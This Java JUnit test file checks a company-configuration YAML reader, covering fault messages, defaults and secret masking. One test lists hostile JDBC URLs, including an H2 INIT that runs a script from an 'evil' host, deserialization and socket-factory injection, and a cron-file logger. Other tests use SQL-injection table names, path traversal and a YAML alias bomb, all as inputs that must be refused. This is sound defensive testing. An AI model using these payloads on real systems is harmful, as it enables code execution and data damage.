package io.linkage.jobs.settings;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.linkage.contract.Domain;
import io.linkage.contract.Layer;
import io.linkage.contract.Privacy;
import io.linkage.contract.Table;
import io.linkage.contract.TableBuilder;
import io.linkage.jobs.Stop;
import io.linkage.settings.ClvSettings;
import io.linkage.settings.GateSettings;
import io.linkage.settings.PrivacySettings;
import io.linkage.settings.ReportingSettings;
import io.linkage.staging.Load;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.Currency;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class CompaniesTest {
    private static final String WHOLE = """
            company: shop
            time-zone: Europe/London
            currency: GBP
            variables: {DATA: in}
            feeds:
              sale:
                - source: tills
                  format: csv
                  location: ${DATA}/tills.csv
                  columns: {sale_id: Id, sold_at: Moment}
            privacy: {pseudonym-key: generate}
            """;

    private final Map<String, String> environment = Map.of("DB_PASSWORD", "hunter2", "ELSEWHERE", "/elsewhere");

    @TempDir
    Path conf;

    @Test
    void readsAWholeCompanyWithEveryDefault() throws IOException {
        Company company = read(WHOLE).company().orElseThrow();

        assertThat(company.name()).isEqualTo("shop");
        assertThat(company.settings(ReportingSettings.class))
                .isEqualTo(new ReportingSettings(Currency.getInstance("GBP"), ZoneId.of("Europe/London")));
        assertThat(company.settings(ClvSettings.class))
                .isEqualTo(new ClvSettings("auto", Optional.empty(), 12, 0.10, 1.0, 91, "none", "none"));
        assertThat(company.settings(GateSettings.class)).isEqualTo(new GateSettings(0.05, 0.5));
        assertThat(company.settings(PrivacySettings.class)).isEqualTo(new PrivacySettings(10, "generate"));
        assertThat(company.settings(RepositorySettings.class))
                .isEqualTo(new RepositorySettings(Optional.empty(), Optional.empty(), Optional.empty()));
        Source tills = company.sources().get("sale").get(0);
        assertThat(tills.location()).isEqualTo(conf.resolve("shop/in/tills.csv").toString());
        assertThat(tills.load()).isEqualTo(Load.FULL);
        assertThat(tills.options()).isEqualTo(new CsvOptions(true, List.of(), "UTF-8", ",", "\"", false));
        assertThat(tills.formats().zone()).isEqualTo(ZoneId.of("Europe/London"));
        assertThat(tills.formats().dates()).containsExactly("yyyy-MM-dd");
        assertThat(tills.columns()).containsExactly(Map.entry("sale_id", "Id"), Map.entry("sold_at", "Moment"));
    }

    @Test
    void segmentsOfTheCompanyReadTheColumnsOfTheMartAlone() throws IOException {
        List<Fault> faults = read(WHOLE + """
                segments:
                  rules: ["vip: clv_amount > 100", "far: distance_km > 9", "now: current_date() > first_purchase_date"]
                """).faults();

        assertThat(faults).hasSize(2).allSatisfy(fault -> {
            assertThat(fault.key()).isEqualTo("segments.rules");
            assertThat(fault.line()).isEqualTo(13);
        });
        assertThat(faults.get(0).why()).contains("segment far", "reads distance_km");
        assertThat(faults.get(1).why()).contains("segment now", "current_date");
        assertThat(read(WHOLE + "segments: {rules: ['vip: clv_amount']}\n")
                        .faults()
                        .get(0)
                        .why())
                .contains("segment vip", "no condition");
        assertThat(read(WHOLE + "segments: {rules: [vip]}\n").faults().get(0).why())
                .contains("'code: condition'");
    }

    @Test
    void rowsOfARecordGiveWhatItsColumnsDoNot() throws IOException {
        Source tills = read(each("[{sold_at: Bought}, {sold_at: Returned, sale_id: Id2}]"))
                .company()
                .orElseThrow()
                .sources()
                .get("sale")
                .get(0);

        assertThat(tills.rowsPerRecord()).isEqualTo(2);
        assertThat(tills.each())
                .containsExactly(Map.of("sold_at", "Bought"), Map.of("sold_at", "Returned", "sale_id", "Id2"));
        assertThat(tills.expressions()).containsExactlyInAnyOrder("Id", "Bought", "Returned", "Id2");
    }

    @Test
    void everyRowOfARecordNeedsWhatMustHaveAValue() throws IOException {
        assertThat(read(each("[{sold_at: Bought}, {sale_id: Id2, soldat: x}]")).faults())
                .extracting(Fault::text)
                .satisfiesExactlyInAnyOrder(
                        text -> assertThat(text).contains("soldat: unknown key; did you mean sold_at?"),
                        text -> assertThat(text).contains("sold_at: missing"));
        assertThat(read(each("[]")).faults())
                .extracting(Fault::text)
                .singleElement()
                .asString()
                .contains("each: no row is listed");
    }

    private static String each(String rows) {
        return WHOLE.replace(", sold_at: Moment}", "}\n      each: " + rows);
    }

    @Test
    void takesTheCompanysValueBeforeTheSharedOneBeforeTheDefault() throws IOException {
        Files.writeString(conf.resolve("application.yaml"), """
                models: {clv: {horizon-months: 24, yearly-discount-rate: 0.2}}
                privacy: {pseudonym-key: generate}
                """);

        Company company = read(WHOLE.replace("privacy: {pseudonym-key: generate}", """
                models: {clv: {horizon-months: 36, calibration-end: 2011-08-31}}
                """))
                .company()
                .orElseThrow();

        assertThat(company.settings(ClvSettings.class))
                .isEqualTo(new ClvSettings(
                        "auto", Optional.of(LocalDate.of(2011, 8, 31)), 36, 0.2, 1.0, 91, "none", "none"));
    }

    @Test
    void showsAllFaultsAtOnceWithFileLineKeyAndRemedy() throws IOException {
        List<Fault> faults = read("""
                company: shop
                curency: EUR
                currency: EURO
                time-zone: Europe/Londen
                feeds:
                  sail: []
                  sale:
                    - source: 1tills
                      format: csv
                      location: ${NOWHERE}/x.csv
                      options: {delimiter: ';;', encodin: UTF-8}
                      columns: {sale_id: "concat(Id", soldat: Moment}
                privacy: {minimum-group: 3, pseudonym-key: s3cr3t}
                models: {clv: {horizon-months: twelve}}
                """).faults();

        assertThat(faults)
                .extracting(Fault::text)
                .satisfiesExactlyInAnyOrder(
                        text -> assertThat(text)
                                .contains("company.yaml:2 curency: unknown key; did you mean currency?"),
                        text -> assertThat(text)
                                .contains("company.yaml:3 currency = EURO: not a currency")
                                .contains("Allowed: a currency by its code in ISO 4217, as EUR"),
                        text -> assertThat(text)
                                .contains("company.yaml:4 time-zone = Europe/Londen")
                                .contains("UTC"),
                        text -> assertThat(text).contains("feeds.sail: unknown key; did you mean sale?"),
                        text -> assertThat(text).contains("feeds.sale.1tills.source = 1tills: no plain name"),
                        text -> assertThat(text).contains("location = ${NOWHERE}/x.csv: ${NOWHERE} is not set"),
                        text -> assertThat(text).contains("delimiter must be one character"),
                        text -> assertThat(text).contains("encodin: unknown key; did you mean encoding?"),
                        text -> assertThat(text)
                                .contains("company.yaml:12")
                                .contains("sale_id")
                                .contains("no Spark SQL"),
                        text -> assertThat(text).contains("soldat: unknown key; did you mean sold_at?"),
                        text -> assertThat(text).contains("sold_at: missing"),
                        text -> assertThat(text).contains("minimum-group = 3: out of bounds. Allowed: 5 to 1000"),
                        text -> assertThat(text)
                                .contains("pseudonym-key = ***: a secret must not stand")
                                .doesNotContain("s3cr3t"),
                        text -> assertThat(text).contains("horizon-months = twelve: not a whole number"));
    }

    @Test
    void requiringAFaultyCompanyStopsAsAFaultOfConfiguration() throws IOException {
        write(WHOLE.replace("company: shop", "compani: shop"));

        assertThatThrownBy(() -> companies().require(conf.resolve("shop")))
                .isInstanceOfSatisfying(
                        Stop.class, stop -> assertThat(stop.exit()).isEqualTo(Stop.Exit.USAGE))
                .hasMessageContaining("2 faults")
                .hasMessageContaining("did you mean company?")
                .hasMessageContaining("company: missing");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '\0',
            value = {
                "format: csv           | format: cvs                        | |csv, json, parquet, delta, jdbc",
                "company: shop         | company: ../shop                   | |no usable name",
                "currency: GBP         | currency: EURO                     | |not a currency by its code in ISO 4217, as EUR",
                "currency: GBP         | currency: gbp                      | |not a currency by its code in ISO 4217, as EUR",
                "currency: GBP         | currency: DEM                      | |",
                "source: tills         | source: tills; drop                | |no plain name",
                "source: tills         | source: ../../etc                  | |no plain name",
                "format: csv           | format: [csv]                      | |must be one value",
                "sale_id: Id           | sale_id: now()                     | |must depend on the row alone, but uses now",
                "sale_id: Id           | sale_id: rand()                    | |must depend on the row alone",
                "sale_id: Id           | sale_id: java_method('a')          | |java_method",
                "sale_id: Id           | sale_id: (select 1)                | |a query within it",
                "sale_id: Id           | sale_id:                           | |has no value",
                "sale_id: Id           | sale_id: Id, sale_id: Id           | |given twice, first in line 10",
                "company: shop         | company: shop\\ncompany: other     | |given twice, first in line 1",
                "format: csv           | format: csv\\n      load: all      | |not a word known here",
                "format: csv           | format: csv\\n      load: changes  | |change: missing",
                "format: csv           | format: csv\\n      change: Kind   | |only for load: changes",
                "format: csv           | format: csv\\n      formats: {dates: [yyyy-MM-ddTT]} | |datetime pattern",
                "format: csv           | format: csv\\n      formats: {dates: [YYYY-MM-dd]}   | |pattern",
                "format: csv           | format: csv\\n      formats: {decimal: ',', grouping: ','} | |must differ",
                "format: csv           | format: csv\\n      formats: {trues: [ja], falses: [ja]} | |both true and false",
                "format: csv           | format: csv\\n      formats: {true: [ja]} | |did you mean trues?",
                "format: csv           | format: csv\\n      options: {header: yes} | |not true or false",
                "format: csv           | format: csv\\n      options: {header: false} | |name the columns",
                "format: csv           | format: csv\\n      options: {encoding: UTF-16} | |not fit for CSV",
                "format: csv           | format: csv\\n      options: {encoding: nonsense} | |not known",
                "format: csv           | format: csv\\n      options: {quote: ab} | |quote must be one",
                "format: csv           | format: parquet\\n      options: {header: true} | |unknown key",
                "format: csv           | format: csv\\n      options: {csv.delimiter: ';'} | |did you mean delimiter?",
                "feeds:                | feeds:\\n  shop.sale: []             | |feeds.shop.sale: unknown key; did you mean sale?",
                "/tills.csv            | /{date:yyyymmdd}.csv\\n      options: {quote: ab} | |{date:yyyymmdd} is no pattern",
                "sale_id: Id           | sale_id: sum(Id)                   | |sale_id = sum(Id): must depend on the row",
                "privacy:              | privat:                            | |did you mean privacy?",
                "{pseudonym-key: generate} | {}                             | |pseudonym-key: missing",
                "{pseudonym-key: generate} | {pseudonym-key: '${env:NONE}'} | |not set: set NONE",
                "{pseudonym-key: generate} | {pseudonym-key: '${file:/no/such}'} | |cannot be read",
                "{pseudonym-key: generate} | [a]                            | |must hold keys",
                "variables: {DATA: in} | variables: {DATA: in, API_TOKEN: abc} | |a secret must not stand",
                "feeds:                | feeds: &a                          | |",
            })
    void namesEachFault(String good, String bad, String ignored, String why) throws IOException {
        List<Fault> faults = read(WHOLE.replace(good, bad.replace("\\n", "\n"))).faults();

        if (why == null) {
            assertThat(faults).isEmpty();
        } else {
            assertThat(faults)
                    .isNotEmpty()
                    .extracting(Fault::text)
                    .anySatisfy(text -> assertThat(text).contains(why));
        }
    }

    @Test
    void opensNoHostileUrlAndHidesSecrets() throws IOException {
        Source good = read(jdbc("jdbc:postgresql://db:5432/shop?sslmode=require", "${env:DB_PASSWORD}"))
                .company()
                .orElseThrow()
                .sources()
                .get("sale")
                .get(0);
        assertThat(good.toString()).doesNotContain("hunter2").contains("${env:DB_PASSWORD}");
        assertThat(good.formats().moments()).startsWith("yyyy-MM-dd HH:mm:ss.SSSSSSXXX");

        assertThat(read(jdbc("jdbc:postgresql://db/shop", "hunter2")).faults())
                .extracting(Fault::text)
                .anySatisfy(text -> assertThat(text).contains("password = ***"))
                .noneSatisfy(text -> assertThat(text).contains("hunter2"));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:mem:x;init=create alias x",
                "jdbc:h2:mem:x;MODE=MySQL\\;INIT=x",
                "jdbc:h2:tcp://evil/x",
                "jdbc:h2:zip:/x.zip!/x",
                "jdbc:mysql://evil/x?autoDeserialize=true",
                "jdbc:postgresql://db/x?socketFactory=org.evil.Factory",
                "jdbc:postgresql://db/x?sslmode=require&loggerFile=/etc/cron.d/x",
                "jdbc:postgresql://db/x?user=a&password=hunter2",
                "jdbc:postgresql://a:b@db/x",
                "jdbc:postgresql:?service=x",
                "jdbc:postgresql://db/x?%73ocketFactory=x",
                "jdbc:derby:memory:x;create=true",
                "JDBC:h2:mem:x",
            })
    void refusesUrlsThatCouldRunCode(String url) throws IOException {
        List<Fault> faults = read(jdbc(url, "${env:DB_PASSWORD}")).faults();

        assertThat(faults)
                .singleElement()
                .satisfies(fault -> assertThat(fault.text())
                        .contains("feeds.sale.tills.location")
                        .doesNotContain("hunter2"));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {"tills; drop", "(select 1) t", "a.b.c", "1a", "x'--", "\"a\"", "a b"})
    void refusesTablesThatAreNoPlainNames(String table) throws IOException {
        String yaml = jdbc("jdbc:postgresql://db/x", "${env:DB_PASSWORD}")
                .replace("shop.tills", "'" + table.replace("'", "''") + "'");

        assertThat(read(yaml).faults())
                .singleElement()
                .satisfies(fault -> assertThat(fault.text()).contains("letters, digits and _"));
    }

    @Test
    void readsASecretFileOnlyWhenOthersCannot() throws IOException {
        Path secret = Files.writeString(conf.resolve("secret"), "0123456789");
        String yaml = WHOLE.replace("generate", "'${file:" + secret + "}'");

        Files.setPosixFilePermissions(secret, PosixFilePermissions.fromString("rw-r-----"));
        assertThat(read(yaml).faults())
                .singleElement()
                .satisfies(fault -> assertThat(fault.text()).contains("chmod 600"));

        Files.setPosixFilePermissions(secret, PosixFilePermissions.fromString("rw-------"));
        Company company = read(yaml).company().orElseThrow();
        assertThat(Secrets.reveal(company.settings(PrivacySettings.class).pseudonymKey()))
                .isEqualTo("0123456789");
    }

    @Test
    void prefersTheEnvironmentToTheCompanysOwnVariable() throws IOException {
        Company company = read(WHOLE.replace("DATA", "ELSEWHERE")).company().orElseThrow();

        assertThat(company.sources().get("sale").get(0).location()).isEqualTo("/elsewhere/tills.csv");
    }

    @Test
    void refusesAliasBombsAndHugeAndDeepFilesQuickly() {
        String bomb = "a: &a [x,x]\nb: &b [*a,*a]\nc: &c [*b,*b]\n";
        String deep = "a: " + "[".repeat(1000) + "]".repeat(1000);
        String huge = "company: " + "x".repeat(2_000_000);

        for (String yaml : List.of(bomb, deep, huge, "company: 'unclosed", "a: b: c", "- x", "", "\t- x")) {
            Assertions.assertTimeout(
                    Duration.ofSeconds(1), () -> assertThat(read(yaml).faults()).isNotEmpty());
        }
    }

    @Test
    void saysThatTheFolderHasNoCompany() {
        assertThat(companies().read(conf.resolve("nowhere")).faults())
                .singleElement()
                .satisfies(fault -> assertThat(fault.text()).contains("no such file"));
    }

    private static String jdbc(String url, String password) {
        return WHOLE.replace("format: csv", "format: jdbc")
                .replace(
                        "${DATA}/tills.csv",
                        "\"" + url.replace("\\", "\\\\") + "\"\n"
                                + "      options: {table: shop.tills, user: reader, password: '" + password + "'}");
    }

    private Loaded read(String yaml) throws IOException {
        write(yaml);
        return companies().read(conf.resolve("shop"));
    }

    private void write(String yaml) throws IOException {
        Files.writeString(Files.createDirectories(conf.resolve("shop")).resolve("company.yaml"), yaml);
    }

    private Companies companies() {
        return new Companies(List.of(sale()), environment::get);
    }

    private static Table sale() {
        TableBuilder table = Table.named("stg_sale", Layer.STAGING).feed("sale").grain("one row per sale");
        table.key("sale_id", Domain.ID, Privacy.INTERNAL, "Identifier of the sale");
        table.required("sold_at", Domain.MOMENT, Privacy.INTERNAL, "Moment of the sale");
        table.standard("kind_code", Domain.CODE, Privacy.INTERNAL, "sale", "Kind of the sale");
        table.optional("note", Domain.TEXT, Privacy.INTERNAL, "What the seller noted");
        table.derived("loaded_date", Domain.DATE, Privacy.INTERNAL, "Night that loaded it");
        return table.build();
    }
}
